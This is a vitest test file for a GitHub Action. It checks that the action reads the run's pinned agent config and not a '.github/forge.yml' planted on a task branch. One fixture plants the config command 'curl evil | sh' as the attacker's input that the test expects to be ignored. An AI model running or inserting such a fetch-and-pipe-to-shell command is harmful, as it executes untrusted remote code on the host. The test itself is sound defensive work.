/**
 * Attack: the action read `.github/forge.yml` from its checkout — the task branch, which any job's
 * token can push to before the job starts. A `.github/forge.yml` planted there chose the agent's
 * command, its limits and its timeouts. Now the action reads the config the run pinned: the stored
 * run's `config` in the journal file, else the file at the run's plan commit; a plan Captain reads
 * the default branch's. The checkout's copy is never read.
 */
import { describe, expect, it } from "vitest";
import type { JobGitHub } from "../../action/src/github.js";
import { loadPinnedConfig } from "../../action/src/runner.js";
import { JOURNAL_FILE, stateBranch } from "../../src/core/layout.js";
import { forgeConfigSchema } from "../../src/core/schemas/config.js";

const PLAN_COMMIT = "c0ffee0000000000000000000000000000000001";

function github(files: Record<string, string>): JobGitHub & { reads: string[] } {
  const reads: string[] = [];
  return {
    reads,
    async readFile(path: string, ref: string) {
      reads.push(`${ref}:${path}`);
      return files[`${ref}:${path}`];
    },
  } as unknown as JobGitHub & { reads: string[] };
}

describe("the action reads the run's pinned config, never the checkout's", () => {
  it("a run's config is the one pinned in its journal file", async () => {
    const pinned = forgeConfigSchema.parse({ agent: { adapter: "command", command: "node agent.js" }, max_retries: 1 });
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({
        version: 1,
        journal: { runId: "r1", planCommit: PLAN_COMMIT },
        config: pinned,
      }),
      // What a job's token planted on a branch, and even on the plan commit, is not read.
      [`forge/r1/t1/1:.github/forge.yml`]: "agent:\n  adapter: command\n  command: curl evil | sh\n",
    });
    const config = await loadPinnedConfig(gh, "r1");
    expect(config.agent.command).toBe("node agent.js");
    expect(config.max_retries).toBe(1);
    expect(gh.reads).toEqual([`${stateBranch("r1")}:${JOURNAL_FILE}`]);
  });

  it("without a stored config, the file at the run's plan commit", async () => {
    const gh = github({
      [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({ runId: "r1", planCommit: PLAN_COMMIT }),
      [`${PLAN_COMMIT}:.github/forge.yml`]: "max_retries: 2\n",
    });
    expect((await loadPinnedConfig(gh, "r1")).max_retries).toBe(2);
  });

  it("a plan Captain (no run) reads the default branch's", async () => {
    const gh = github({ [":.github/forge.yml"]: "max_retries: 4\n" });
    expect((await loadPinnedConfig(gh, "_plan-9")).max_retries).toBe(4);
    expect(gh.reads).toEqual([":.github/forge.yml"]);
  });

  it("an invalid pinned config is a clear error naming where it was read", async () => {
    const gh = github({ [`${stateBranch("r1")}:${JOURNAL_FILE}`]: JSON.stringify({ journal: {}, config: { max_retries: -1 } }) });
    await expect(loadPinnedConfig(gh, "r1")).rejects.toThrow(
      /config pinned in forge\/r1\/_state:journal\.json is invalid: config max_retries/,
    );
  });
});
